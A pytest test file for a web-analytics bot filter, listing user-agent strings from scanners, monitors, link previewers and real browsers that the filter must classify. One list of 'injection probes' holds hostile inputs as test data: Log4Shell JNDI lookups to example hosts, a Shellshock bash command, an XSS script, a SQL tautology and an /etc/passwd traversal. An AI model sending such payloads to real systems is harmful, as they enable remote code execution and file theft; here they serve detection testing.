"""Each kind of miss and false positive of the bot filter, as the bot-filtering issue names them.

The strings are written for these tests (real products' shapes, example hosts); the labelled corpora are
tested in ``test_ingest_bots_corpus.py``.
"""

import pytest

from clickport.ingest import bots
from clickport.ingest.bots import is_bot

# --- what slipped through -------------------------------------------------------------------------------

NO_BROWSER_AT_ALL = {
    "bare product names and words": [
        "Seobility", "firefox", "chrome", "Node.js", "phpMyAdmin", "Zgrab", "masscan/1.3", "Go", "Java",
        "Mozilla", "Hello, world", "test", "SiteLockSpider", "AcmeUptimeAgent/3",
    ],
    "e-mail addresses": [
        "admin@example.com", "research scanner (contact security@example.org)", "Mozilla/5.0 (compatible; ops@example.net)",
    ],
    "random tokens": ["a8f3k2l9x0q7w", "xYz123AbC", "5f4dcc3b5aa765d61d8327deb882cf99", "QmFzZTY0VG9rZW4="],
    "injection probes": [
        "${jndi:ldap://203.0.113.5:1389/a}", "${${lower:j}ndi:dns://example.com/x}", "<script>alert(1)</script>",
        "' OR '1'='1", "() { :; }; /bin/bash -c 'id'", "../../../../etc/passwd",
    ],
    "Mozilla (compatible; X/1.0) shapes": [
        "Mozilla/5.0 (compatible; SomeScanner/1.0)", "Mozilla/5.0 (compatible; Foo/2.3; +https://foo.example)",
        "Mozilla/4.0 (compatible; Netcraft Web Server Survey)", "Mozilla/5.0 (compatible)", "Mozilla/5.0",
    ],
}

TOOL_APPENDED = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Safari/537.36 (scanner.example)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 LinkChecker/2.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 (compatible; Nuclei)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 monitoring.example.com",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 SiteAuditTool/1.2",
]

TOOLS = {
    "security scanners": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    ],
    "uptime monitors": [
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        "Mozilla/5.0 (compatible; StatusCake)",
        "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.111 Safari/537.36",
        "Site24x7",
        "Datadog/Synthetics",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36 NewRelicSynthetics/1.0",
    ],
    "link previewers": [
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "WhatsApp/2.23.20.0 A",
        "TelegramBot (like TwitterBot)",
        "Iframely/1.3.1 (+https://iframely.com/docs/about)",
        "Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)",
        "SkypeUriPreview Preview/0.5",
    ],
    "SEO tools": [
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Screaming Frog SEO Spider/19.2",
        "Mozilla/5.0 (compatible; Seobility; +https://www.seobility.net/sites/)",
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    ],
    "certificate validation": [
        "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
        "Microsoft-CryptoAPI/10.0",
        "SSL Labs (https://www.ssllabs.com/about/assessment.html)",
        "CloudFlare-SSLDetector",
    ],
    "cloud health checks": [
        "ELB-HealthChecker/2.0",
        "GoogleHC/1.0",
        "Amazon-Route53-Health-Check-Service (ref 0a1b2c3d; report http://amzn.to/1vsZADi)",
        "kube-probe/1.29",
        "Azure Traffic Manager Endpoint Monitor",
        "Cloudflare-Healthchecks/1.0",
        "Google-Cloud-Scheduler",
        "Consul Health Check",
    ],
}

# --- what was wrongly dropped, and what must never be ---------------------------------------------------

REAL_BROWSERS = {
    "Sogou's mobile browser": [
        "Mozilla/5.0 (Linux; Android 10; V1990A Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/80.0.3987.99 Mobile Safari/537.36 SogouMSE,SogouMobileBrowser/5.30.12",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 15_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 SogouMobileBrowser/6.0.1",
    ],
    "Yandex Browser Lite": [
        "Mozilla/5.0 (Linux; arm_64; Android 11; SM-A125F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.230 YaBrowser/24.1.2.86 (lite) Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; arm; Android 9; Redmi 7A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 YaBrowser/23.5.4.73 (lite) Mobile Safari/537.36",
    ],
    "Android WebViews with build tokens": [
        "Mozilla/5.0 (Linux; Android 15; CPH2581 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.135 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; M2101K6G Build/TKQ1.221013.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.107 Mobile Safari/537.36",
    ],
    "device names that look like bot words": [
        "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 4.4.2; GM Discovery II) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Mobile Safari/537.36",
    ],
    "in-app browsers": [
        "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/491.0.0.58.74;]",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 340.0.3.21.103 (iPhone14,5; iOS 17_5; en_US; en; scale=3.00; 1170x2532; 617282410)",
        "Mozilla/5.0 (Linux; Android 12; 2201117TG Build/SKQ1.211103.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 trill_370105 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/trill app_version/37.1.5 ByteLocale/en ByteFullLocale/en Region/US BytedanceWebview/d8a21c6",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_34.1.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US RevealType/Dialog isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6 FalconTag/",
        "Mozilla/5.0 (Linux; Android 13; 22101316C Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/116.0.0.0 Mobile Safari/537.36 XWEB/1160065 MMWEBSDK/20231202 MMWEBID/2247 MicroMessenger/8.0.47.2560(0x28002F30) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
        "Mozilla/5.0 (Linux; Android 9; SM-G965F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 XWEB/2889 MMWEBSDK/20210902 Mobile Safari/537.36 MMWEBID/4096 MicroMessenger/8.0.15.2020(0x28000F30) Process/tools WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.46(0x18002e2c) NetType/WIFI Language/zh_CN",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.9.0",
        "Mozilla/5.0 (Linux; Android 13; SO-51C Build/64.1.C.0.170; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 Line/13.21.0/IAB",
        "Mozilla/5.0 (Linux; Android 16; SM-F966N; BP2A.250605.031.A3; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/145.0.7632.120 Mobile Safari/537.36 Viber/27.4.0.0",
    ],
    "smart TVs": [
        "Mozilla/5.0 (SMART-TV; LINUX; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 WebAppManager",
        "Mozilla/5.0 (Linux; Android 9; AFTKA Build/PS7633.3445N; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Andr0id 9; BRAVIA 4K UR2 Build/PTT1.190515.001.S52) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.136 Mobile Safari/537.36 OPR/46.0.2207.0 OMI/4.13.5.431.DIA5HBBTV.250 Model/Sony-BRAVIA-4K-UR2 CE-HTML/1.0 NETRANGEMMH HbbTV/1.4.1 (+DRM; Sony; KD-55XF9005; v6.0.1.8; 2019; ) sony.hbbtv.tv.G5",
        "Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.66 Model/Hisense-MT9602 VIDAA/5.0(TAUBE;SmartTV;VS0165UD1;MTK9602/V0000.01.00L.N0116)",
        "Roku/DVP-12.5 (12.5.0.4178-88)",
    ],
    "consoles": [
        "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
        "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393",
    ],
    "regional browsers": [
        "Mozilla/5.0 (Linux; U; Android 10; en-US; RMX2185 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.0.1306 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 10; HarmonyOS; NOH-AN00; HMSCore 6.13.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.88 HuaweiBrowser/14.0.5.303 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 13; en-gb; 2201117TY Build/TKQ1.221114.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.5.1-gn",
        "Mozilla/5.0 (Linux; U; Android 12; zh-cn; PEGM00 Build/SKQ1.210216.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/109.0.5414.86 MQQBrowser/14.7 Mobile Safari/537.36 COVC/046733",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Whale/3.24.223.21 Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; SM-G991N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Whale/1.0.0.0 Crosswalk/28.120.6099.23 Mobile Safari/537.36 NAVER(inapp; search; 2000; 12.1.3)",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 OPR/86.0.0.0",
        "Opera/9.80 (Android; Opera Mini/36.2.2254/191.316; U; en) Presto/2.12.423 Version/12.16",
        "Mozilla/5.0 (Linux; Android 11; SM-A205F Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.196 Mobile Safari/537.36 OPR/76.2.4027.73374",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0 (Edition Yx GX)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 YaBrowser/24.4.0.0 Safari/537.36",
    ],
    "iOS and Android apps' WebViews": [
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
        "Mozilla/5.0 (Linux; Android 12; Pixel 6 Build/SQ3A.220705.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/103.0.5060.71 Mobile Safari/537.36 GSA/13.25.10.29.arm64",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/293.0.586004424 Mobile/15E148 Safari/604.1",
    ],
}


def _cases(groups: dict[str, list[str]]) -> list:
    return [pytest.param(ua, id=f"{kind}: {ua[:60]}") for kind, uas in groups.items() for ua in uas]


@pytest.mark.parametrize("user_agent", _cases(NO_BROWSER_AT_ALL))
def test_what_is_no_browser_at_all_is_a_bot(user_agent):
    assert is_bot(user_agent) is True


@pytest.mark.parametrize("user_agent", TOOL_APPENDED)
def test_a_tool_appended_to_a_browser_string_is_a_bot(user_agent):
    assert is_bot(user_agent) is True


@pytest.mark.parametrize("user_agent", _cases(TOOLS))
def test_scanners_monitors_previewers_seo_certificate_and_health_checks_are_bots(user_agent):
    assert is_bot(user_agent) is True


@pytest.mark.parametrize("user_agent", _cases(REAL_BROWSERS))
def test_real_browsers_are_never_dropped(user_agent):
    assert is_bot(user_agent) is False


def test_a_crawler_name_is_excused_only_inside_a_known_browsers_device_comment():
    browser = "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36"
    assert is_bot(browser) is False
    assert is_bot("M bot 54") is True  # the same words, no browser around them
    # a crawler that names itself in a "(compatible; …)" comment is not a device
    assert is_bot("Mozilla/5.0 (compatible; AcmeBot/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36") is True
    # … and one appended after the browser's tokens is not the browser's own token
    assert is_bot(browser + " AcmeBot/1.0") is True


def test_an_apps_own_tail_is_no_appended_tool_but_a_host_name_after_a_plain_browser_is():
    wechat = "Mozilla/5.0 (Linux; Android 9; SM-G965F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 Mobile Safari/537.36 MicroMessenger/8.0.15.2020(0x28000F30) Process/tools"
    assert bots.appended_tool(wechat) is False
    plain = "Mozilla/5.0 (Linux; Android 9; SM-G965F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.62 Mobile Safari/537.36 Process/tools"
    assert bots.appended_tool(plain) is True


def test_the_positive_rule_asks_for_an_engine_or_a_recognised_browser():
    assert bots.has_browser_shape("Mozilla/5.0 (compatible; SomeScanner/1.0)") is False
    assert bots.has_browser_shape("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0") is True
    assert bots.has_browser_shape("Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54") is True
